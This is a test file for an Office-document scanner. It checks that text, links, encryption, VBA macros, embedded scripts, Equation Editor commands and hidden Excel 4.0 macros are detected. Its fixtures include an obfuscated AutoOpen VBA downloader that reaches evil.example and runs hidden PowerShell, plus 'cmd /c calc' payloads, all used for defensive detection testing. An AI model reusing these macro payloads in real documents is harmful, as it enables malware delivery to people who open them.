import { describe, expect, test } from 'vitest'
import { buildCompound } from '../testing/build-compound.ts'
import { listVbaStreams } from '../testing/build-vba-project.ts'
import { loadBase64, readBytes, toSignLines } from '../testing/read-sample-file.ts'

const sample = (name: string) => loadBase64(new URL(`samples/${name}.b64`, import.meta.url))

// Written by LibreOffice 7.4, so that reader and writer are different people's work.
// Passwords cost hash rounds by design; a busy machine takes seconds for them.
describe('documents of another program', { timeout: 60_000 }, () => {
  test('a Word document gives text, link and author, and no sign', async () => {
    const reading = await readBytes(sample('plain-doc'), 'a.doc')

    expect(reading.text).toContain('お世話になっております。売上の概要をご報告いたします。')
    expect(reading.links).toEqual([
      { url: 'https://www.kohoku-shoji.co.example/news', kind: 'document' },
    ])
    expect(reading.facts).toContainEqual({ name: 'author', value: '山田 太郎' })
    expect([reading.signs, reading.problems]).toEqual([[], []])
  })

  test('a workbook gives its strings and no sign', async () => {
    const reading = await readBytes(sample('plain-xls'), 'b.xls')

    expect(reading.text).toBe('品名\n数量\n単価\nポンプ\nシール')
    expect([reading.signs, reading.problems]).toEqual([[], []])
  })

  test.each([
    ['standard encryption, written by LibreOffice', 'standard-himitsu.docx'],
    ['agile encryption, written by officecrypto-tool', 'agile-himitsu.xlsx'],
  ])('%s opens with the password of the mail', async (_name, file) => {
    const { members, signs } = await readBytes(sample(file), file, ['wrong', 'himitsu'])

    expect(members?.[0]?.password).toBe('himitsu')
    expect(Buffer.from(members?.[0]?.content ?? []).toString('latin1', 0, 4)).toBe('PK\x03\x04')
    expect(signs).toEqual([{ kind: 'encrypted-document', excerpt: 'encrypted with a password' }])
  })

  test('without its password an encrypted document says so', async () => {
    const reading = await readBytes(sample('agile-himitsu.xlsx'), 'a.xlsx', ['wrong'])

    expect(reading.problems).toEqual(['wrong-password'])
    expect(reading.members).toEqual([])
  })
})

const DOWNLOADER = [
  'Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" () As Long',
  'Sub AutoOpen()',
  '  u = "ht" & "tp://evil" & StrReverse("exe.a/elpmaxe.")',
  '  Shell Replace("pXowershXell -w hidden", "X", "")',
  'End Sub',
].join('\n')

describe('macros', () => {
  test('a macro is named with what starts it, what it calls and where it reaches', async () => {
    const file = buildCompound({
      WordDocument: Buffer.alloc(4_096),
      ...listVbaStreams({ ThisDocument: '', 請求: DOWNLOADER }, 'Macros/'),
    })
    const reading = await readBytes(file, 'a.doc')

    expect(toSignLines(reading)).toEqual([
      'vba-macro: ThisDocument, 請求',
      'vba-auto-run: AutoOpen',
      'vba-call: Shell: Shell Replace("pXowershXell -w hidden", "X", "")',
      'vba-call: powershell: powershell -w hidden',
      'vba-call: URLDownloadToFile: Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" () As Long',
      'vba-call: Declare Lib: Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" () As Long',
    ])
    expect(reading.links?.map(({ url }) => url)).toContain('http://evil.example/a.exe')
    expect(reading.members?.map(({ name }) => name)).toEqual(['請求.bas'])
    expect(Buffer.from(reading.members?.[0]?.content ?? []).toString()).toBe(DOWNLOADER)
  })

  test('a damaged directory of modules does not hide their source', async () => {
    const streams = listVbaStreams({ Module1: DOWNLOADER })
    const file = buildCompound({ ...streams, 'VBA/dir': Buffer.alloc(40, 1) })

    expect(toSignLines(await readBytes(file, 'a.bin'))).toContain('vba-auto-run: AutoOpen')
  })

  test('empty modules, which every workbook that may hold macros has, are no macro', async () => {
    const streams = listVbaStreams({ ThisWorkbook: 'Option Explicit\n', Sheet1: '' })

    expect((await readBytes(buildCompound(streams), 'a.bin')).signs).toEqual([])
  })
})

describe('objects', () => {
  const string = (text: string) => Buffer.from(`${text}\0`, 'latin1')
  const long = (value: number) => {
    const bytes = Buffer.alloc(4)
    bytes.writeUInt32LE(value)
    return bytes
  }
  const packaged = (name: string, content: Buffer) => {
    const path = `C:\\Users\\tester\\${name}`
    const data = Buffer.concat([
      Buffer.from([2, 0]),
      string(name),
      string(path),
      Buffer.from([0, 0, 3, 0]),
      long(path.length + 1),
      string(path),
      long(content.length),
      content,
    ])
    return Buffer.concat([long(data.length), data])
  }

  test('a packed file comes out with its name, and one that runs is named', async () => {
    const file = buildCompound({ '\u0001Ole10Native': packaged('invoice.js', Buffer.from('x()')) })
    const reading = await readBytes(file, 'oleObject1.bin')

    expect(toSignLines(reading)).toEqual([
      'embedded-object: invoice.js',
      'embedded-executable: invoice.js',
    ])
    expect(reading.members?.[0]).toMatchObject({ name: 'invoice.js', sizeBytes: 3 })
    expect(reading.facts).toContainEqual({
      name: 'packed-from',
      value: 'C:\\Users\\tester\\invoice.js',
    })
  })

  test.each([
    ['a short font name', 'Times', 'Equation Editor object'],
    ['a font name longer than the buffer', 'A'.repeat(48), 'font name of 48 bytes'],
    ['a command', 'cmd /c calc.exe & AAAA', 'command in the equation: cmd /c calc'],
  ])('an equation with %s', async (_name, font, excerpt) => {
    const record = Buffer.concat([Buffer.from([8, 90, 1]), string(font)])
    const stream = Buffer.concat([Buffer.alloc(28), Buffer.from([3, 1, 1, 3, 10]), record])
    const reading = await readBytes(buildCompound({ 'Equation Native': stream }), 'o.bin')

    expect(toSignLines(reading)[0]).toContain(excerpt)
  })
})

describe('Excel 4.0 macros', () => {
  const record = (type: number, data: readonly number[]) =>
    Buffer.from([type & 255, type >> 8, data.length & 255, data.length >> 8, ...data])
  const chars = (text: string) => [...Buffer.from(text, 'latin1')]
  // BoundSheet8: place, state, kind 1 = macro sheet, name (MS-XLS §2.4.28).
  const sheet = (state: number, kind: number, name: string) =>
    record(0x85, [0, 0, 0, 0, state, kind, name.length, 0, ...chars(name)])

  test('a very hidden macro sheet, its start and what it executes are seen', async () => {
    const command = 'cmd.exe /c calc'
    const formula = [0x17, command.length, 0, ...chars(command), 0x42, 1, 110, 0]
    const workbook = Buffer.concat([
      record(0x809, [0, 6, 5, 0]),
      sheet(0, 0, 'Sheet1'),
      sheet(2, 1, 'Macro1'),
      record(0x18, [0x20, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1]),
      record(0x809, [0, 6, 0x40, 0]),
      record(6, [...Array<number>(20).fill(0), formula.length, 0, ...formula]),
    ])
    const padded = Buffer.concat([workbook, Buffer.alloc(4_096)])

    expect(toSignLines(await readBytes(buildCompound({ Workbook: padded }), 'a.xls'))).toEqual([
      'xlm-macro: sheet Macro1 (very hidden)',
      'xlm-macro: Auto_Open starts by itself',
      'xlm-macro: EXEC("cmd.exe /c calc")',
    ])
  })
})
